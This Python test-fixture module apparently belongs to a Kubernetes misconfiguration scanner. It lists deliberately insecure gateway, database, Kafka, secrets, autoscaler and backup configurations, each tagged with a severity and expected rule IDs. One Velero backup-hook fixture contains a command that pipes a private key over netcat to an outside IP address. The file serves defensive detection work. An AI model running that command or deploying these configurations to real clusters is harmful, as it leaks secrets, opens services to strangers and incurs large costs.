"""Attacks on clusters by gateways, operators of data, rights and autoscalers (2026-11-28, tenth set).

Custom resources, charts and annotations by their projects' documentation, as known.
"""

import base64

from ..blind import IMAGE, TAGS, crd, k8s, meta, workload
from ..harness import Given
from . import Attack
from .seventh_identity import ANYWHERE

OPEN = ("FJ-EXP-", "FJ-IDN-", "FJ-ESC-", "FJ-RES-", "FJ-ENC-")
ENC = ("FJ-ENC-", "FJ-EXP-", "FJ-ESC-")
MONEY = ("FJ-COST-", "FJ-ESC-")
STACK = Given("pulumi:pulumi:Stack", {}, "falaj-prod-uae")
EIGHT = {"cpu": "8", "memory": "32Gi"}
BUYS = "an autoscaler of another stack buys the machines"
AUTHORITY = base64.b64encode(ANYWHERE.encode()).decode()
MANY = {"requests": {"cpu": "96", "memory": "1000Gi", "nvidia.com/gpu": "8"},
        "limits": {"cpu": "96", "memory": "1000Gi", "nvidia.com/gpu": "8"}}  # fmt: skip


def _top(kind: str, name: str, spec: object) -> Given:
    return k8s(kind, {"metadata": {"name": name, "labels": TAGS}, "spec": spec}, name)


def _route(**policy: object) -> tuple[Given, ...]:
    return (
        crd(
            "gateway.envoyproxy.io/v1alpha1:SecurityPolicy",
            {"targetRefs": [{"group": "gateway.networking.k8s.io", "kind": "HTTPRoute", "name": "chat"}], **policy},
        ),
    )


ATTACKS = (
    Attack("a gateway lets in clients whose certificate is not valid", OPEN, (
        crd("gateway.networking.k8s.io/v1:Gateway", {
            "gatewayClassName": "envoy-internal", "infrastructure": {"annotations": {
                "service.beta.kubernetes.io/aws-load-balancer-scheme": "internal"}},
            "listeners": [{"name": "https", "port": 443, "protocol": "HTTPS", "hostname": "chat.example.ae",
                           "tls": {"mode": "Terminate", "certificateRefs": [{"name": "tls"}]}}],
            "tls": {"frontend": {"default": {"validation": {
                "mode": "AllowInsecureFallback", "caCertificateRefs": [
                    {"group": "", "kind": "ConfigMap", "name": "clients"}]}}}}}, "falaj-gateway"),),
        "critical", "who has no certificate calls what is for holders of one (Gateway API, "
        "FrontendTLSValidation, mode)"),
    Attack("a gateway of the mesh leads to whatever service a client names", OPEN, (
        crd("networking.istio.io/v1:Gateway", {"selector": {"istio": "ingressgateway"}, "servers": [{
            "port": {"number": 443, "name": "tls", "protocol": "TLS"}, "hosts": ["*"],
            "tls": {"mode": "AUTO_PASSTHROUGH"}}]}),),
        "critical", "each service of the cluster is reached from outside by its name in SNI (Istio, 'Gateway', "
        "AUTO_PASSTHROUGH)"),
    Attack("a route of the gateway passes when the server of rights is away", OPEN, _route(extAuth={
        "failOpen": True, "grpc": {"backendRefs": [{"name": "rights", "port": 9001}]}}),
        "critical", "whoever overloads the server of rights is let in (Envoy Gateway, SecurityPolicy, failOpen)"),
    Attack("a route of the gateway takes requests with a token and without", OPEN, _route(jwt={
        "optional": True, "providers": [{
            "name": "bank", "issuer": "https://login.example.ae",
            "remoteJWKS": {"uri": "https://login.example.ae/keys"}}]}),
        "critical", "requests without a token pass (Envoy Gateway, SecurityPolicy, jwt.optional)"),
    Attack("a gateway asks each host that its callers name", OPEN, (
        crd("gateway.envoyproxy.io/v1alpha1:Backend", {"type": "DynamicResolver"}),
        k8s("gateway.networking.k8s.io/v1:HTTPRoute", {"metadata": meta("chat"), "spec": {
            "parentRefs": [{"name": "edge", "namespace": "falaj-gateway"}], "rules": [{"backendRefs": [
                {"group": "gateway.envoyproxy.io", "kind": "Backend", "name": "x"}]}]}}, "route")),
        "critical", "callers reach each address that the gateway reaches (Envoy Gateway, 'Dynamic resolver')"),
    Attack("the console of Traefik is a route of everybody", OPEN, (crd("traefik.io/v1alpha1:IngressRoute", {
        "entryPoints": ["websecure"], "tls": {"secretName": "routes"}, "routes": [{
            "kind": "Rule", "match": "Host(`routes.example.ae`)",
            "services": [{"kind": "TraefikService", "name": "api@internal"}]}]}),),
        "critical", "whoever calls reads every route and backend (Traefik, 'API & Dashboard')"),
    Attack("a route of Contour needs no sign-in, for every path", OPEN, (crd("projectcontour.io/v1:HTTPProxy", {
        "virtualhost": {"fqdn": "chat.example.ae", "tls": {"secretName": "chat"}, "authorization": {
            "extensionRef": {"name": "rights", "namespace": "edge"}}},
        "routes": [{"conditions": [{"prefix": "/"}], "authPolicy": {"disabled": True},
                    "services": [{"name": "chat", "port": 8080}]}]}),),
        "critical", "no request is asked for a token (Contour, 'External Authorization', authPolicy)"),
    Attack("a policy of nginx takes whatever certificate a client shows", OPEN, (crd("k8s.nginx.org/v1:Policy", {
        "ingressMTLS": {"clientCertSecret": "clients", "verifyClient": "optional_no_ca", "verifyDepth": 1}}),),
        "critical", "a certificate that the client signed itself is enough (NGINX Ingress Controller, 'Policies', "
        "IngressMTLS)"),
    Attack("an ingress leaves out the sign-in that all others ask for", OPEN, (
        k8s("networking.k8s.io/v1:Ingress", {"metadata": meta("chat", annotations={
            "nginx.ingress.kubernetes.io/enable-global-auth": "false"}), "spec": {
                "ingressClassName": "nginx-internal", "tls": [{"hosts": ["chat.example.ae"], "secretName": "chat"}],
                "rules": [{"host": "chat.example.ae", "http": {"paths": [{
                    "path": "/", "pathType": "Prefix", "backend": {
                        "service": {"name": "chat", "port": {"number": 80}}}}]}}]}}),),
        "major", "nobody signs in before the app (ingress-nginx, 'Annotations', enable-global-auth)"),
    Attack("pods of a namespace take every role of the account", OPEN, (k8s("core/v1:Namespace", {"metadata": {
        "name": "team-a", "labels": {**TAGS, "pod-security.kubernetes.io/enforce": "restricted"},
        "annotations": {"iam.amazonaws.com/permitted": ".*"}}}),),
        "critical", "a pod acts as the administrator (kiam, 'Annotate your namespaces')"),
    Attack("a pooler of connections trusts each client", OPEN, (crd("postgresql.cnpg.io/v1:Pooler", {
        "cluster": {"name": "pg"}, "instances": 2, "type": "rw", "pgbouncer": {
            "poolMode": "session", "pg_hba": ["hostssl all all 0.0.0.0/0 trust"]}}),),
        "critical", "whoever reaches the pooler is each user of the database (CloudNativePG, Pooler, pg_hba)"),
    Attack("brokers are managed by whoever reaches a port", OPEN, (crd("kafka.strimzi.io/v1beta2:Kafka", {
        "kafka": {"version": "4.1.0", "jmxOptions": {}, "authorization": {"type": "simple"}, "listeners": [
            {"name": "tls", "port": 9093, "type": "internal", "tls": True, "authentication": {"type": "tls"}}],
            "template": {"pod": {"metadata": {"labels": TAGS}}}}}),),
        "critical", "callers of JMX without a password run programs in the broker (Strimzi, KafkaJmxOptions)"),
    Attack("a user of Kafka may do everything with every topic", OPEN, (crd("kafka.strimzi.io/v1beta2:KafkaUser", {
        "authentication": {"type": "tls"}, "authorization": {"type": "simple", "acls": [
            {"resource": {"type": "topic", "name": "*", "patternType": "literal"}, "operations": ["All"]},
            {"resource": {"type": "cluster"}, "operations": ["All"]}]}}),),
        "critical", "the team reads payments' messages and rewrites who may read (Strimzi, 'ACL rules')"),
    Attack("a team's secret is filled with all that the vault has", OPEN, (
        crd("external-secrets.io/v1:ExternalSecret", {
            "secretStoreRef": {"name": "vault", "kind": "ClusterSecretStore"}, "refreshInterval": "1h",
            "target": {"name": "all"}, "dataFrom": [{"find": {"name": {"regexp": ".*"}}}]}),),
        "critical", "the team has the passwords of each other team (External Secrets, 'Find many secrets')"),
    Attack("events of workflows are taken from and given to whoever calls", OPEN, (
        crd("argoproj.io/v1alpha1:EventBus", {"nats": {"native": {"replicas": 3, "auth": "none"}}}, "default"),),
        "major", "each pod starts what events start, and reads them (Argo Events, 'EventBus', auth)"),
    Attack("an autoscaler of requests goes up to fifteen hundred pods", MONEY, (
        STACK,
        workload("apps/v1:Deployment", {"resources": {"requests": EIGHT, "limits": EIGHT}}),
        k8s("http.keda.sh/v1alpha1:HTTPScaledObject", {"metadata": meta("x"), "spec": {
            "hosts": ["chat.example.ae"], "scaleTargetRef": {
                "name": "x", "kind": "Deployment", "apiVersion": "apps/v1", "service": "x", "port": 8080},
            "replicas": {"min": 2, "max": 1500}, "scalingMetric": {"concurrency": {"targetValue": 10}}}}, "scaler")),
        "critical", f"12,000 processors for whoever sends requests: {BUYS} (KEDA HTTP add-on, HTTPScaledObject)"),
    Attack("a pool of Karpenter keeps five hundred machines", MONEY, (
        STACK,
        _top("karpenter.sh/v1:NodePool", "static", {
            "replicas": 500, "limits": {"nodes": "600"}, "template": {
                "metadata": {"labels": {**TAGS, "falaj.io/workload-profile": "general"}}, "spec": {
                    "expireAfter": "720h", "requirements": [
                        {"key": "node.kubernetes.io/instance-type", "operator": "In", "values": ["m7g.16xlarge"]},
                        {"key": "karpenter.sh/capacity-type", "operator": "In", "values": ["on-demand"]}],
                    "nodeClassRef": {"group": "karpenter.k8s.aws", "kind": "EC2NodeClass", "name": "general"}}}})),
        "critical", "500 machines run without a pod (Karpenter, 'NodePools', static capacity)"),
    Attack("a training takes five hundred machines by one number", MONEY, (
        STACK,
        crd("trainer.kubeflow.org/v1alpha1:TrainJob", {
            "runtimeRef": {"name": "torch-distributed"}, "labels": TAGS, "trainer": {
                "image": IMAGE, "numNodes": 500, "command": ["torchrun", "train.py"], "resourcesPerNode": MANY}})),
        "critical", f"4,000 GPUs: {BUYS} (Kubeflow Trainer, TrainJob, numNodes)"),
    Attack("volumes of a class have two hundred and fifty thousand operations each", MONEY, (
        STACK,
        k8s("storage.k8s.io/v1:VolumeAttributesClass", {
            "metadata": {"name": "fast", "labels": TAGS}, "driverName": "ebs.csi.aws.com",
            "parameters": {"type": "io2", "iops": "256000"}}),
        k8s("core/v1:PersistentVolumeClaim", {"metadata": meta("data"), "spec": {
            "accessModes": ["ReadWriteOnce"], "storageClassName": "encrypted", "volumeAttributesClassName": "fast",
            "resources": {"requests": {"storage": "1Ti"}}}}, "claim")),
        "major", "a claim of one tebibyte costs more than ten machines (Amazon EBS, 'Pricing'; Kubernetes, "
        "'Volume Attributes Classes')"),
    Attack("nodes of an automatic cluster trust an authority of a stranger", OPEN, (
        _top("eks.amazonaws.com/v1:NodeClass", "private", {
            "role": "bank-node", "tags": TAGS, "subnetSelectorTerms": [{"tags": {"zone": "private"}}],
            "securityGroupSelectorTerms": [{"tags": {"zone": "private"}}],
            "certificateBundles": [{"name": "someone", "data": AUTHORITY}]}),),
        "critical", "the stranger reads and changes what nodes and registries say (Amazon EKS, 'Create a Node Class "
        "for Amazon EKS', certificateBundles)"),
    Attack("a backup runs a command in the pods of payments", OPEN, (
        k8s("velero.io/v1:Schedule", {"metadata": meta("nightly", "velero"), "spec": {
            "schedule": "0 2 * * *", "template": {
                "includedNamespaces": ["payments"], "ttl": "720h0m0s", "hooks": {"resources": [{
                    "name": "keys", "includedNamespaces": ["payments"], "pre": [{"exec": {
                        "container": "api", "command": [
                            "/bin/sh", "-c", "cat /run/secrets/key.pem | nc 185.199.110.153 9000"]}}]}]}}}}),),
        "critical", "the key of payments is a stranger's (Velero, 'Backup Hooks')"),
    Attack("Grafana believes the name in a header", OPEN, (crd("grafana.integreatly.org/v1beta1:Grafana", {
        "config": {"auth.proxy": {
            "enabled": "true", "header_name": "X-WEBAUTH-USER", "header_property": "username",
            "auto_sign_up": "true"}}}),),
        "critical", "each pod that reaches Grafana is its administrator (Grafana, 'Auth proxy authentication', "
        "without whitelist)"),
    Attack("volumes of a class are booked on another environment", ("FJ-TAG-", "FJ-COST-", "FJ-ESC-"), (
        k8s("storage.k8s.io/v1:StorageClass", {
            "metadata": {"name": "encrypted", "labels": TAGS}, "provisioner": "ebs.csi.aws.com",
            "volumeBindingMode": "WaitForFirstConsumer", "parameters": {
                "type": "gp3", "encrypted": "true", "tagSpecification_1": "environment=dev",
                "tagSpecification_2": "cost-centre=none"}}),),
        "major", "the volumes of production are on the bill of nobody (Amazon EBS CSI driver, 'Volume tagging')"),
)  # fmt: skip
